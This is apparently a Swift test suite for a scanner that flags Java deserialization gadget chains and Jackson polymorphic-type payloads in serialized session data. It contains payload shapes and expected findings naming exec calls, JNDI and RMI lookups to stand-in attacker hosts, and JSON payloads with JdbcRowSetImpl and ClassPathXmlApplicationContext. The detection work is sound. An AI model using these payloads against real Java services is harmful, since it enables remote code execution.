import Testing

@testable import SessionFormats

/// What loading a stream would do. The fixtures have the shapes of known chains and do nothing.
@Suite struct JavaDangerTests {
  /// The findings as lines: effect, name, arguments, remark.
  private func lines(_ findings: [Finding]) -> [String] {
    findings.map { finding in
      let arguments = finding.arguments.map {
        String(decoding: JSONWriter.json($0), as: UTF8.self)
      }.joined(separator: ", ")
      return "\(finding.effect.rawValue) \(finding.name)(\(arguments)) \(finding.remark ?? "")"
    }
  }

  @Test(arguments: [
    (
      "commons-collections",
      [
        #"call getMethod("getRuntime", []) gadget: CommonsCollections"#,
        "call invoke(null, []) gadget: CommonsCollections",
        #"call exec("id") gadget: CommonsCollections"#,
      ]
    ),
    (
      "lazy-map-alone",
      ["create org.apache.commons.collections.keyvalue.TiedMapEntry() gadget: CommonsCollections"]
    ),
    (
      "beanutils-templates",
      [
        "call getOutputProperties() gadget: CommonsBeanutils",
        "create com.sun.org.apache.xalan.internal.xsltc.trax.TemplatesImpl() "
          + "gadget: TemplatesImpl, runs 2 classes of 1000 bytes of bytecode",
      ]
    ),
    (
      "instantiate",
      [
        "create com.sun.org.apache.xalan.internal.xsltc.trax.TrAXFilter("
          + #"{"$class":"com.sun.org.apache.xalan.internal.xsltc.trax.TemplatesImpl"}) "#
          + "gadget: CommonsCollections",
        "create com.sun.org.apache.xalan.internal.xsltc.trax.TemplatesImpl() "
          + "gadget: TemplatesImpl, runs 2 classes of 1000 bytes of bytecode",
      ]
    ),
    (
      "jndi",
      ["look up ldap://127.0.0.1:1389/Exploit() gadget: JNDI, com.sun.rowset.JdbcRowSetImpl"]
    ),
    ("groovy", [#"call execute("id") gadget: Groovy1"#]),
    (
      "rome",
      [
        "create com.sun.syndication.feed.impl.ToStringBean() gadget: ROME, its toString calls every getter"
      ]
    ),
    (
      "file",
      [
        "create org.apache.commons.fileupload.disk.DiskFileItem() gadget: FileUpload1, writes a file"
      ]
    ),
    (
      "signed-object",
      ["create java.security.SignedObject() gadget: SignedObject, deserializes 13 bytes inside"]
    ),
    ("reference", ["look up http://127.0.0.1:8000/() gadget: JNDI, javax.naming.Reference"]),
    (
      "urldns",
      ["look up http://session.attacker.invalid/x() gadget: URLDNS, a key of a hash map"]
    ),
    ("jrmp", ["look up rmi://attacker.invalid:1099() gadget: JRMPClient"]),
  ])
  func gadgets(name: String, expected: [String]) throws {
    let bytes = try Fixture.bytes("java/gadget-\(name).bin")
    let decoded = try Decoded(detecting: bytes)
    #expect(lines(decoded.reading.findings) == expected)
    #expect(decoded.reading.findings.allSatisfy { 4..<bytes.count ~= $0.offset })
    #expect(
      String(decoding: JSONWriter.json(decoded.value), as: UTF8.self).contains("\"$danger\""))
    // The fast exit leaves what has to be named to the usual one.
    var output: [UInt8] = []
    #expect(!JSONTranscoder().transcode(bytes, into: &output))
  }

  @Test func everyFixtureIsTested() throws {
    #expect(try Fixture.names(in: "java").filter { $0.hasPrefix("gadget-") }.count == 12)
  }

  @Test func everyGadgetIsAFinding() throws {
    for name in JavaGadget.all.keys {
      let bytes = JavaBytes.stream([0x73], JavaBytes.description(name), [0x70])
      let reading = try Format.java.read(bytes)
      #expect(reading.findings.count == 1, "\(name)")
      // A subclass of it as well, and an instance in a list.
      let subclass = JavaBytes.stream(
        [0x73], JavaBytes.description("com.example.Innocent"), JavaBytes.description(name), [0x70])
      #expect(try Format.java.read(subclass).findings.count == 1, "\(name)")
      // Not the class as a value, nor a text of its name.
      let mention = JavaBytes.stream(
        [0x76], JavaBytes.description(name), [0x70], JavaBytes.string(name))
      #expect(try Format.java.read(mention).findings.isEmpty)
    }
  }

  @Test func namesHaveHashesOfTheirOwn() {
    #expect(
      JavaKnown.table.count == JavaKnown.names.flatMap { $0.1.split(separator: " ") }.count
        + JavaGadget.all.count)
  }

  @Test func aURLThatIsNoKeyIsData() throws {
    let decoded = try Decoded(detecting: Fixture.bytes("java/java17.bin"))
    #expect(decoded.reading.findings.isEmpty)
  }

  @Test func findingsAreBounded() throws {
    var bytes = JavaBytes.stream(
      [0x75], JavaBytes.description("[Ljava.lang.Object;"), [0x70], JavaBytes.int(1000), [0x73],
      JavaBytes.description("com.sun.rowset.JdbcRowSetImpl"), [0x70])
    for _ in 1..<1000 { bytes += [0x73] + JavaBytes.reference(2) }
    #expect(try Format.java.read(bytes).findings.count == 20)
  }

  // MARK: Jackson

  @Test(arguments: [
    (
      #"["com.sun.rowset.JdbcRowSetImpl",{"dataSourceName":"ldap://127.0.0.1/a","autoCommit":true}]"#,
      "look up ldap://127.0.0.1/a() gadget: JNDI, com.sun.rowset.JdbcRowSetImpl", 2
    ),
    (
      #"{"a":{"@class":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"rmi://h/a"}}"#,
      "look up rmi://h/a() gadget: JNDI, com.sun.rowset.JdbcRowSetImpl", 16
    ),
    (
      #"{"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"rmi://h/a"}"#,
      "look up rmi://h/a() gadget: JNDI, com.sun.rowset.JdbcRowSetImpl", 10
    ),
    (
      #"{"@class":"com.sun.org.apache.xalan.internal.xsltc.trax.TemplatesImpl","x":1}"#,
      "create com.sun.org.apache.xalan.internal.xsltc.trax.TemplatesImpl() "
        + "gadget: TemplatesImpl, by its type in JSON", 11
    ),
    (
      #"{"a":["org.springframework.context.support.ClassPathXmlApplicationContext","http://h/x.xml"]}"#,
      "create org.springframework.context.support.ClassPathXmlApplicationContext() "
        + "gadget: Jackson, by its type in JSON", 7
    ),
  ])
  func typesInJSON(json: String, expected: String, offset: Int) throws {
    let decoded = try Decoded(detecting: Array(json.utf8))
    #expect(lines(decoded.reading.findings) == [expected])
    #expect(decoded.reading.findings.first?.offset == offset)
  }

  @Test(arguments: [
    (
      #"{"@class":"com.example.User","id":1}"#, "Jackson JSON",
      #"{"@class":"com.example.User","id":1}"#
    ),
    (
      #"{"@type":"schema.Person","id":["java.lang.Long",1]}"#, "Jackson JSON",
      #"{"@type":"schema.Person","id":1}"#
    ),
    (#"{"@type":"schema.Person","id":[1,2]}"#, "JSON", #"{"@type":"schema.Person","id":[1,2]}"#),
    (
      #"{"@class":"no class","d":["java.util.Date",0]}"#, "Jackson JSON",
      #"{"@class":"no class","d":{"$datetime":"1970-01-01T00:00:00Z"}}"#
    ),
    (
      #"{"@class":"a.B","e":["a.E","RED"],"l":["java.util.ArrayList",[]]}"#, "Jackson JSON",
      #"{"@class":"a.B","e":["a.E","RED"],"l":[]}"#
    ),
    (
      #"{"@class":"a.B","d":["java.util.Date","no date"]}"#, "Jackson JSON",
      #"{"@class":"a.B","d":["java.util.Date","no date"]}"#
    ),
    (#"["java.util.HashSet",[1]]"#, "Jackson JSON", #"{"$set":[1]}"#),
    (#"["java.util.HashSet",1]"#, "JSON", #"["java.util.HashSet",1]"#),
    (#"["a.b.C",[1]]"#, "JSON", #"["a.b.C",[1]]"#),
    (#"["java.lang.Long",5]"#, "JSON", #"["java.lang.Long",5]"#),
    (#"["example.org",[1]]"#, "JSON", #"["example.org",[1]]"#),
  ])
  func jackson(json: String, label: String, typed: String) throws {
    let decoded = try Decoded(detecting: Array(json.utf8))
    #expect(decoded.reading.label == label)
    #expect(String(decoding: JSONWriter.json(decoded.value, .typed), as: UTF8.self) == typed)
    #expect(decoded.reading.findings.isEmpty)
    // The label is accepted as a name.
    #expect(try Decoded(reading: Array(json.utf8), as: label).reading.label == label)
  }
}
